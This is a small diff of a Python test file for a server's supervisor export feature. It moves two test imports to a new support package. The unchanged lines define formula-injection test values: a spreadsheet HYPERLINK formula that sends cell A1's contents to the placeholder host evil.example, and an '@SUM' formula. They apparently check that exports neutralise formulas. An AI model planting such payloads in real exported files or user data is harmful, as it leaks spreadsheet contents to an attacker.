@@ -13,8 +13,8 @@ import pytest
 from server.app import create_app
 from server.config import load_config
 from server.supervisor.exports import FORMULA_STARTS, neutral
-from tests.conftest import SMALL_HALL
-from tests.supervisor_helpers import login
+from tests.support.hall import SMALL_HALL
+from tests.support.login import login
 
 EVIL_SERVICE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 EVIL_COUNTER = "@SUM(1+1)"
